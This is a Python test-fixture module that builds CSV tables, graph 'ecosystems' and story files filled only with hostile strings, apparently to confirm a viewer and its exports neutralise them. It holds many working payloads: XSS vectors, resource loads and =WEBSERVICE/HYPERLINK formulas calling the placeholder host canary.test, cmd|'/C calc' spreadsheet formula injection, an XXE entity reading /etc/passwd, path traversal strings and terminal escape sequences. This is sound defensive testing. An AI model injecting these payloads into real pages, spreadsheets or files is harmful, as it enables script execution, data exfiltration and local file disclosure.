r"""Texts that have broken viewers, spreadsheets, calendars and terminals, and an ecosystem made of them.

Whatever runs sets ``window.hit``, calls ``alert`` or changes the title; whatever loads asks
``canary.test`` for it. Neither may ever happen.
"""

from __future__ import annotations

import csv
import io

from graph.model.ecosystem import Ecosystem, make
from graph.vocabulary import EDGE_COLUMNS, NODE_COLUMNS

HOST = "canary.test"
NEVER = f"http://{HOST}/"
HIT = "window.hit=1"

MARKUP = {
    "script": f"<script>{HIT};alert(1);document.title='hit'</script>",
    "script from elsewhere": f"<script src={NEVER}a.js></script>",
    "picture": f"<img src=x onerror={HIT}>",
    "picture from elsewhere": f"<img src={NEVER}i.png srcset={NEVER}s.png>",
    "out of an attribute": f'"><img src=x onerror="{HIT}">',
    "another attribute": f"' onmouseover='{HIT}' autofocus tabindex=0 onfocus='{HIT}' \" onmouseover=\"{HIT}",
    "backtick": f"`onmouseover={HIT} x=`",
    "drawing": f"<svg onload={HIT}><script>{HIT}</script></svg>",
    "foreign object": f"<svg><foreignObject><body onload={HIT}><img src=x onerror={HIT}></svg>",
    "animation": f"<svg><animate onbegin={HIT} attributeName=x dur=1s><set onbegin={HIT}></svg>",
    "drawing from elsewhere": f"<svg><use href='{NEVER}u.svg#a'/><image href='{NEVER}m.png'/></svg>",
    "details": f"<details open ontoggle={HIT}>x</details>",
    "formula of mathematics": f'<math><mi//xlink:href="data:x,<script>{HIT}</script>">',
    "frame": "<iframe srcdoc='<script>parent.hit=1</script>' src='javascript:parent.hit=1'></iframe>",
    "frame from elsewhere": f"<iframe src={NEVER}f.html></iframe><object data={NEVER}o><embed src={NEVER}e>",
    "style": f"</style><style>@import url({NEVER}c.css);*{{background:url({NEVER}b.png)}}</style>",
    "style of an element": f"<p style='background:url({NEVER}p.png);width:expression({HIT})'>x</p>",
    "style sheet": f"<link rel=stylesheet href={NEVER}l.css><link rel=prefetch href={NEVER}pre>",
    "refresh": f"<meta http-equiv=refresh content='0;url={NEVER}r.html'>",
    "base": f"<base href={NEVER}><script src=a.js></script>",
    "form": f"<form action={NEVER}post><input autofocus onfocus={HIT}><button formaction=javascript:{HIT}>",
    "film": f"<video src={NEVER}v poster={NEVER}w onerror={HIT}></video><audio src=x onerror={HIT}>",
    "link that runs": f"<a href='javascript:{HIT}' onclick={HIT}>x</a>",
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={HIT}>"><!--<img src="-->',
    "title and textarea": f"</title></textarea></xmp></noscript><script>{HIT}</script>",
    "entities": f"&lt;script&gt;{HIT}&lt;/script&gt;&#60;img src=x onerror={HIT}&#62;",
}
OUT_OF_JSON = {
    "end of a script": f"</script><script>{HIT}</script>",
    "comment and script": f"<!--<script>{HIT}",
    "escapes": f"\\u003cimg src=x onerror={HIT}\\u003e\\x3cscript\\x3e\\",
    "line separators": f"a\u2028{HIT}//\u2029{HIT}//",
    "quotation marks": f"\\\";{HIT}//';{HIT}//",
    "end of a section": f"]]>--></script><![CDATA[<script>{HIT}//]]>",
}
ADDRESSES = {
    "javascript": f"javascript:{HIT}",
    "javascript in disguise": f"JaVa\tScRiPt&colon;{HIT}//https://a.example",
    "data": f"data:text/html,<script>{HIT}</script>",
    "vbscript": f"vbscript:msgbox({HIT})",
    "file": "file:///etc/passwd",
    "no scheme": f"//{HOST}/x",
    "address with more": f'https://example.org/" onmouseover="{HIT}" x="',
    "address and script": f"https://example.org/ javascript:{HIT}",
}
TEMPLATES = {
    "braces": "{{7*7}}{{config}}${7*7}#{7*7}<%= 7*7 %>",
    "statement": "{% raw %}{% for x in y %}",
    "comment of a template": "{# never closed",
    "format": "%s%n%x%(name)s{0}{}{name!r}{count}",
    "dollars": r"$\frac{1}{0$ $x^2$ \alpha",
}
FORMULAS = {
    "sum": "=1+1",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hyperlink": f'=HYPERLINK("{NEVER}?"&A1,"click")',
    "exchange of data": "=cmd|'/C calc'!A0",
    "web service": f'=WEBSERVICE("{NEVER}")',
    "full width": "＝1+2",
    "apostrophe": "'=1+1",
    "semicolons": 'x;=1+1;"=2+2"',
    "bar": "|cmd|",
}
XML = {
    "document type": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "entity": "&e;&amp;&#0;&#x1b;",
    "instruction": "<?xml-stylesheet href='http://canary.test/x.xsl'?><?php echo 1 ?>",
}
CONTROLS = {
    "escape sequence": "a\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "link of a terminal": f"\x1b]8;;{NEVER}\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;aGl0\x07",
    "eight bits": "a\x9b31mred\x9d0;title\x9c\x85b\x80",
    "bells": "a\x01\x07\x08\x0b\x0c\x0e\x7fb",
    "not in XML": "a\ufffe\uffff\x1fb",
    "overrides": "\u202egnp.exe\u202c \u2066a\u2069 \u202bb\u202a",
    "zero width": "a\u200bb\u200c\u200dc\u00ad\u2060",
}
LETTERS = {
    "tower of marks": "Z" + "\u0300\u0301\u0302\u0323\u0489" * 60,
    "right to left": 'شركة "العربية" עברית',
    "joined pictures": "👩‍👩‍👧‍👦🏳️‍🌈🇯🇵",
    "tags": "a\U000e0041\U000e0042\U000e007f",
    "long": "very long " * 5000,
}
FILES = {
    "device": "CON",
    "device with an ending": "nul.txt",
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\C:\\Windows\\win.ini:stream",
    "percent": "%2e%2e%2f%00%3Cscript%3E%0d%0aX:1",
    "dots": "..",
}
MARKDOWN = {
    "link": f"[x](javascript:{HIT}) ![x]({NEVER}i.png) [y][z] <javascript:{HIT}>",
    "columns": "a | b | c \\| d \\\\| e",
    "fences": "```html <b>*x*</b> _y_ ~~z~~ # h",
    "mail": "ftp://canary.test/f mailto:a@canary.test",
}
CALENDAR = {"property": "x;y,z\\n:ATTENDEE;RSVP=TRUE:mailto:a@canary.test"}
NAMES = {
    each: each
    for each in ("__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "prototype", "length")
}
NUMBERS = {each: each for each in ("007", "1e5", "-1", "Infinity", "NaN", "null", "true", "0", "2016-05")}

# Those that a reader of files lets through.
READABLE = {
    **MARKUP, **OUT_OF_JSON, **ADDRESSES, **TEMPLATES, **FORMULAS, **XML, **CONTROLS, **LETTERS, **FILES,
    **MARKDOWN, **CALENDAR, **NAMES, **NUMBERS,
}  # fmt: skip
# Line ends within a cell are read as blanks, a NUL or a byte order mark is refused; from Python they come.
FROM_PYTHON = {
    "NUL": "a\x00b",
    "byte order mark": "\ufeffa",
    "line": "x\r\nATTENDEE:mailto:a@canary.test\r\n\r\n# h\n| a |\n",
    "carriage": "harmless\rhostile",
    "tab first": "\t=1+1",
    "return first": "\r=1+1",
    "line first": "\n=1+1",
}
PAYLOADS = {**READABLE, **FROM_PYTHON}

TYPED = {
    "row",
    "lat",
    "lon",
    "term_years",
    "auto_renews",
    "notice_months",
    "signed",
    "effective",
    "announced",
    "expires",
    "terminated",
    "source",
    "target",
}
STRUCTURE = ("located_in", "mou")
KIN = 3  # organisations of a type


def tables(payloads: dict[str, str]) -> tuple[dict[str, list[str]], dict[str, list[str]]]:
    """Both tables by column: an organisation a payload, which stands in every text of its row.

    Some share the type of one of them, since reports pair all types with all. Organisation number i is
    joined to number i + 1, and all to one plain hub.
    """
    texts = list(payloads.values())
    ids = [*texts, "plain"]
    nodes = {name: list(ids) for name in NODE_COLUMNS if name not in TYPED}
    nodes |= {"lat": ["35.5", "", *["-1"] * (len(ids) - 2)], "lon": ["139", "", *["10"] * (len(ids) - 2)]}
    nodes["type"] = [*(texts[at - at % KIN] for at in range(len(texts))), "hub"]
    pairs = [*zip(ids, [*ids[1:], ids[0]], strict=True), *((each, "plain") for each in texts[:-1])]
    lead = [one for one, _ in pairs]
    edges = {name: list(lead) for name in EDGE_COLUMNS if name not in TYPED}
    edges |= {"source": lead, "target": [other for _, other in pairs]}
    edges["agreement"] = [f"{each}{number}" for number, each in enumerate(lead)]
    edges["renews"] = ["" if number % 5 else edges["agreement"][number - 1] for number in range(len(lead))]
    edges["relation"] = [
        STRUCTURE[number % 2] if number % 3 == 0 else each for number, each in enumerate(lead)
    ]
    edges["signed"] = [f"{2001 + number % 24}-05" for number in range(len(lead))]
    edges["expires"] = ["2027-03-31" if number % 2 else "" for number in range(len(lead))]
    return nodes | _columns(texts, ids), edges | _columns(texts, lead)


def _columns(texts: list[str], rows: list[str]) -> dict[str, list[str]]:
    """A column of one's own named by each payload, which holds it in the rows of that organisation."""
    return {name: [name if row == name else "" for row in rows] for name in texts}


def ecosystem(payloads: dict[str, str] = PAYLOADS) -> Ecosystem:
    """An ecosystem of nothing but hostile texts."""
    return make(*tables(payloads))


def as_files(payloads: dict[str, str] = READABLE) -> dict[str, bytes]:
    """Both tables as CSV files."""
    return {
        f"{name}.csv": _csv(table) for name, table in zip(("nodes", "edges"), tables(payloads), strict=True)
    }


def _csv(columns: dict[str, list[str]]) -> bytes:
    stream = io.StringIO()
    writer = csv.writer(stream, quoting=csv.QUOTE_ALL, lineterminator="\n")
    writer.writerow(columns)
    writer.writerows(zip(*columns.values(), strict=True))
    return stream.getvalue().encode()


def story(payloads: dict[str, str] = READABLE) -> dict[str, object]:
    """A story whose every text is hostile."""
    steps = [
        {"title": text, "text": {"en": text, "ja": text}, "view": {"focus": text}}
        for text in payloads.values()
    ]
    return {"title": next(iter(payloads.values())), "steps": steps}
